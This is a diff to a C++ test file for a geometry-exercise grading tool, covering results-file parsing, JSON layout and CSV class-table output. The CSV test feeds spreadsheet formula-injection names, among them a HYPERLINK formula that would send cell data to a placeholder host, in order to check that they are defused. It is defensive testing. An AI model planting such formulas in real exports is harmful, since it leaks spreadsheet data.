@@ -3,6 +3,7 @@
 #include <gmpxx.h>
 #include <gtest/gtest.h>
 
+#include <QJsonDocument>
 #include <QTemporaryDir>
 #include <algorithm>
 #include <set>
@@ -185,7 +186,7 @@ TEST(Exercises, ResultsFilesReadBackAndBadOnesAreSkippedWithTheirReason) {
       {drawingFile(three, "[]").replace("\"score\": 0", "\"score\": \"x\""), "\"score\""},
   };
   for (const auto& [bytes, reason] : bad) {
-    const auto parsed = app::parseResults(bytes);
+    const auto parsed = app::parseResults(bytes.toStdString());
     ASSERT_TRUE(std::holds_alternative<std::string>(parsed)) << bytes.toStdString();
     EXPECT_NE(std::get<std::string>(parsed).find(reason), std::string::npos)
         << std::get<std::string>(parsed);
@@ -214,30 +215,100 @@ TEST(Exercises, ResultsFilesReadBackAndBadOnesAreSkippedWithTheirReason) {
     QFile file(dir.filePath(name));
     EXPECT_TRUE(file.open(QIODevice::WriteOnly));
     file.write(bytes);
-    return file.fileName();
+    return file.fileName().toStdString();
   };
-  const QString good = write("good.json", app::resultsJson(cuts));
-  const QString broken = write("broken.json", "{");
+  const std::string good = write("good.json", QByteArray::fromStdString(app::resultsJson(cuts)));
+  const std::string broken = write("broken.json", "{");
   // Four sites on the circle of radius 100 about (400, 250): which diagonal is an edge is a tie.
-  const QString tied = write(
+  const std::string tied = write(
       "tied.json", drawingFile("[[460, 330], [320, 310], [340, 170], [480, 190]]", "[[1, 3]]"));
+  const std::string missing = dir.filePath("missing.json").toStdString();
   const app::ClassReport report =
-      app::gradeFiles({good, broken, tied, dir.filePath("missing.json")}, true);
-  EXPECT_EQ(report.skipped, 3);
-  EXPECT_TRUE(report.lines.find(good.toStdString() + ",\"Lin \"\"L\"\", 2b\",cut-point,") !=
-              std::string::npos)
+      app::gradeFiles({good, broken, tied, missing, dir.path().toStdString(), "/dev/zero"}, true);
+  EXPECT_EQ(report.skipped, 5);
+  EXPECT_TRUE(report.lines.find(good + ",\"Lin \"\"L\"\", 2b\",cut-point,") != std::string::npos)
       << report.lines;
-  for (const auto& [file, reason] : {std::pair{broken, "not JSON"},
-                                     {tied, "four sites lie on one circle"},
-                                     {dir.filePath("missing.json"), "cannot be read"}}) {
-    EXPECT_NE(report.problems.find(file.toStdString() + ": skipped: " + reason), std::string::npos)
+  for (const auto& [file, reason] :
+       {std::pair{broken, "not JSON"},
+        {tied, "four sites lie on one circle"},
+        {missing, "cannot be read: No such file or directory"},
+        {dir.path().toStdString(), "cannot be read: it is a folder"},
+        // A device claims no size: what is read is bounded all the same.
+        {std::string("/dev/zero"), "larger than 16 MB"}}) {
+    EXPECT_NE(report.problems.find(file + ": skipped: " + reason), std::string::npos)
         << report.problems;
   }
-  const auto graded = testing_support::runProgram({"--grade", good, broken});
+  const auto graded = testing_support::runProgram(
+      {"--grade", QString::fromStdString(good), QString::fromStdString(broken)});
   EXPECT_EQ(graded.exitCode, 2);
-  EXPECT_TRUE(graded.output.startsWith(good + ": ")) << graded.output.toStdString();
-  EXPECT_TRUE(graded.errors.contains(broken + ": skipped: not JSON"))
+  EXPECT_TRUE(graded.output.startsWith(QString::fromStdString(good) + ": "))
+      << graded.output.toStdString();
+  EXPECT_TRUE(graded.errors.contains(QString::fromStdString(broken) + ": skipped: not JSON"))
       << graded.errors.toStdString();
+}
+
+// A results file is laid out as the JSON of every other tool: keys in alphabetical order,
+// four spaces a level, one value a line, whole numbers without a fraction, the shortest
+// digits for the others, and the text of a name as it was, whatever it holds.
+TEST(Exercises, ResultsFilesAreLaidOutAsStandardIndentedJson) {
+  app::ExerciseResults pieces;
+  pieces.kind = app::ExerciseKind::VoronoiPiece;
+  pieces.name = "Zo\xc3\xab \"Z\" \\ \t\x01";
+  pieces.seed = 4294967295u;
+  pieces.sites = {{100, 100}, {300.5, 120.25f}, {200.125, 300}};
+  pieces.pieces = {{1, 2, 3}, {2, 3, 0}};
+  pieces.score = -2;
+  const std::string written = app::resultsJson(pieces);
+  // Qt's JSON writer, another implementation, lays out the same document byte for byte.
+  const QJsonDocument document = QJsonDocument::fromJson(QByteArray::fromStdString(written));
+  ASSERT_TRUE(document.isObject()) << written;
+  EXPECT_EQ(document.toJson(QJsonDocument::Indented).toStdString(), written);
+  EXPECT_NE(written.find("\"seed\": 4294967295,"), std::string::npos) << written;
+  EXPECT_NE(written.find("300.5,"), std::string::npos) << written;
+  const auto back = app::parseResults(written);
+  ASSERT_TRUE(std::holds_alternative<app::ExerciseResults>(back));
+  EXPECT_EQ(std::get<app::ExerciseResults>(back).name, pieces.name);
+}
+
+// The class table: a cell a spreadsheet would run as a formula is kept as text, inside its
+// quotes; every byte of a name reaches the table, a NUL too, and the files after it are not
+// lost.
+TEST(Exercises, TheClassTableRunsNoFormulaAndLosesNoLine) {
+  QTemporaryDir dir;
+  const QByteArray sites = "[[100, 100], [300, 120], [200, 300]]";
+  QStringList files{"--grade", "--csv"};
+  const char* names[] = {"=HYPERLINK(\\\"http://example.invalid/?x=\\\"&A1)",
+                         "+1",
+                         "-2",
+                         "@SUM(A1)",
+                         "\\tx",
+                         "\\rx",
+                         "a\\u0000b",
+                         "Ada"};
+  for (const char* name : names) {
+    const QString path = dir.filePath(QString::number(files.size()) + ".json");
+    QFile file(path);
+    ASSERT_TRUE(file.open(QIODevice::WriteOnly));
+    file.write(drawingFile(sites, "[[1, 2]]")
+                   .replace(R"("name": "")", QByteArray(R"("name": ")") + name + "\""));
+    files << path;
+  }
+  const auto graded = testing_support::runProgram(files);
+  EXPECT_EQ(graded.exitCode, 0) << graded.errors.toStdString();
+  const QStringList lines = graded.output.split(QLatin1Char('\n'), Qt::SkipEmptyParts);
+  ASSERT_EQ(lines.size(), 9) << graded.output.toStdString();
+  const QString expected[] = {R"x("'=HYPERLINK(""http://example.invalid/?x=""&A1)")x",
+                              R"("'+1")",
+                              R"("'-2")",
+                              "\"'@SUM(A1)\"",
+                              "\"'\tx\"",
+                              "\"'\rx\"",
+                              QStringLiteral("a") + QChar(0) + "b",
+                              "Ada"};
+  for (int n = 0; n < 8; ++n) {
+    EXPECT_TRUE(lines[n + 1].startsWith(files[n + 2] + "," + expected[n] + ",delaunay-edges,"))
+        << lines[n + 1].toStdString();
+  }
 }
 
 }  // namespace
